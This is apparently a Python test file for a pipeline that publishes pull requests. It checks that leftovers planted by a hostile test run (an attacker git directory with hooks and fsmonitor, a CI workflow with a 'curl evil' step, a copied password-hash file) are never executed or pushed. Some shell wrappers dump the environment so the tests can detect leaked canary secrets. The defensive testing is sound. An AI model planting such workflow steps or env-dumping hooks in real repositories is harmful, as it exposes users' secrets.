"""Publishing the pipeline's record from a workspace a hostile test run touched: only the edits reach the PR.

A real workspace of the clone is opened, the record's edits are written into it, and then a hostile test run's
leftovers are added: a `.git` pointing at an attacker's git dir (fsmonitor, filters, hooks, `.gitattributes`),
a rewritten CI workflow and a copied secret. Publishing the record must run none of it, and the pushed branch
must be the base plus exactly the record.
"""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tasks.pull_requests import GitHubClient, publish_pull_request
from tasks.workspace import ChangeSet, Workspace, open_workspace
from tests.fakes.github_server import FakeGitHub
from tests.tasks.hostile import CANARIES, fired, plant, prove_live
from tests.tasks.pull_requests.conftest import FULL_NAME, Repos, git
from vibe.errors import InputError
from vibe.settings import Settings

RECORD = {"app.py": "print('hello, record')\n", "pkg/new_module.py": "VALUE = 1\n", "README.md": None}


@pytest.fixture
def canaries(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    for name, value in CANARIES.items():
        if name != "GITHUB_TOKEN":  # the settings carry the token under test; the others are bystanders
            monkeypatch.setenv(name, value)
    return CANARIES


def listing(repo: Path, ref: str) -> dict[str, str]:
    out = git(repo, "ls-tree", "-r", "--full-tree", ref)
    return {line.split("\t", 1)[1]: line.split()[2] for line in out.splitlines()}


def _hash(repo: Path, text: str) -> str:
    return subprocess.run(["git", "hash-object", "--no-filters", "--stdin"], cwd=repo, input=text, text=True,
                          capture_output=True, check=True).stdout.strip()


def hostile_workspace_record(repos: Repos, markers: Path, variant: str) -> tuple[Workspace, ChangeSet]:
    """Open a workspace, write the record's edits, leave a hostile test run's leftovers.

    Returns the open workspace (the pipeline publishes before it closes it) and the record.
    """
    ws = open_workspace(repos.work)
    for path, text in RECORD.items():
        target = ws.path / path
        if text is None:
            target.unlink()
        else:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text)
    (ws.path / ".github" / "workflows").mkdir(parents=True)
    (ws.path / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {steal: {run: 'curl evil'}}\n")
    (ws.path / "stolen-secret.txt").write_text("root:$6$hash:::\n")
    (ws.path / "app.py").write_text("print('a test rewrote the edited file too')\n")
    plant(ws.path, markers, variant=variant, objects=repos.work / ".git" / "objects")
    assert set(prove_live(ws.path, markers)) >= {"ANTHROPIC_API_KEY", "REDIS_URL"}
    return ws, ChangeSet(base_commit=ws.base_commit, changes=RECORD)


def assert_branch_is_base_plus_record(repos: Repos, branch: str) -> None:
    base = listing(repos.remote, "main")
    expected = {k: v for k, v in base.items() if k != "README.md"}
    expected["app.py"] = _hash(repos.work, RECORD["app.py"] or "")
    expected["pkg/new_module.py"] = _hash(repos.work, RECORD["pkg/new_module.py"] or "")
    assert listing(repos.remote, branch) == expected
    changed = git(repos.remote, "diff", "--name-only", "main", branch).splitlines()
    assert sorted(changed) == sorted(RECORD)
    assert git(repos.remote, "rev-parse", f"{branch}^") == git(repos.remote, "rev-parse", "main")


@pytest.mark.parametrize("variant", ["gitfile", "gitdir"])
def test_local_mode_publishes_exactly_the_record_and_runs_nothing(
    repos: Repos, make_settings: Callable[..., Settings], tmp_path: Path, canaries: dict[str, str], variant: str
) -> None:
    markers = tmp_path / "markers"
    markers.mkdir()
    ws, record = hostile_workspace_record(repos, markers, variant)
    with ws:
        result = publish_pull_request(repos.work, title="Record", body="", key="record", changes=record,
                                      settings=make_settings())
    assert result.pushed
    assert fired(markers) == []
    assert_branch_is_base_plus_record(repos, result.branch)
    assert git(repos.work, "status", "--porcelain") == ""  # the user's checkout is untouched


@pytest.mark.parametrize("variant", ["gitfile", "gitdir"])
def test_github_mode_publishes_exactly_the_record_and_runs_nothing(
    repos: Repos, fake_github: FakeGitHub, settings: Settings, tmp_path: Path, canaries: dict[str, str],
    variant: str,
) -> None:
    git(repos.work, "remote", "set-url", "origin", fake_github.git_url(FULL_NAME))
    markers = tmp_path / "markers"
    markers.mkdir()
    ws, record = hostile_workspace_record(repos, markers, variant)
    with ws:
        result = publish_pull_request(repos.work, title="Record", body="Body.", key="record", changes=record,
                                      settings=settings, github=GitHubClient.from_settings(settings))
    assert result.created
    assert fake_github.git_authorizations  # the push went over the fake's smart HTTP with the token
    assert fired(markers) == []
    assert_branch_is_base_plus_record(repos, result.branch)
    (pr,) = fake_github.pulls(FULL_NAME)
    assert "stolen-secret" not in pr["body"]


def test_rerun_of_the_same_record_pushes_nothing_and_an_empty_record_is_nothing_to_commit(
    repos: Repos, make_settings: Callable[..., Settings]
) -> None:
    base = git(repos.work, "rev-parse", "HEAD")
    record = ChangeSet(base_commit=base, changes={"app.py": "print('v1')\n"})
    settings = make_settings()
    assert publish_pull_request(repos.work, title="T", body="", key="k", changes=record, settings=settings).pushed
    again = publish_pull_request(repos.work, title="T", body="", key="k", changes=record, settings=settings)
    assert not again.pushed
    empty = publish_pull_request(repos.work, title="T", body="", key="other", settings=settings,
                                 changes=ChangeSet(base_commit=base, changes={"app.py": "print('hello')\n"}))
    assert empty.nothing_to_commit


def test_git_commands_of_a_publish_see_no_secrets(
    repos: Repos, make_settings: Callable[..., Settings], tmp_path: Path, canaries: dict[str, str]
) -> None:
    # receive-pack is what the remote end of a push runs: here a wrapper that records the environment the
    # pipeline's own `git push` passed on, then does the real work.
    dump = tmp_path / "push-env.txt"
    wrapper = tmp_path / "recording-receive-pack"
    wrapper.write_text(f"#!/bin/sh\nenv >> '{dump}'\nexec git-receive-pack \"$@\"\n")
    wrapper.chmod(0o755)
    git(repos.work, "config", "remote.origin.receivepack", str(wrapper))
    # A user's own fsmonitor hook is not run either (`vibe pr` reads the tree with core.fsmonitor=false).
    monitor = tmp_path / "user-fsmonitor"
    monitor.write_text(f"#!/bin/sh\nenv >> '{tmp_path}/fsmonitor-env.txt'\nexit 0\n")
    monitor.chmod(0o755)
    git(repos.work, "config", "core.fsmonitor", str(monitor))
    settings = make_settings()
    base = git(repos.work, "rev-parse", "HEAD")
    record = ChangeSet(base_commit=base, changes={"app.py": "print('env')\n"})
    publish_pull_request(repos.work, title="Env", body="", key="env", changes=record, settings=settings)
    (repos.work / "app.py").write_text("print('from the user tree')\n")
    publish_pull_request(repos.work, title="Env 2", body="", key="env-2", settings=settings)
    text = dump.read_text()
    assert text.count("GIT_CONFIG_NOSYSTEM=1") == 2  # both pushes ran through the recorder
    assert [name for name, value in CANARIES.items() if value in text] == []
    assert "PREFECT_" not in text
    assert not (tmp_path / "fsmonitor-env.txt").exists()


def test_changes_and_source_together_are_refused(repos: Repos, make_settings: Callable[..., Settings]) -> None:
    record = ChangeSet(base_commit=git(repos.work, "rev-parse", "HEAD"), changes={})
    with pytest.raises(InputError, match="not both"):
        publish_pull_request(repos.work, title="T", body="", changes=record, source=repos.work,
                             settings=make_settings())

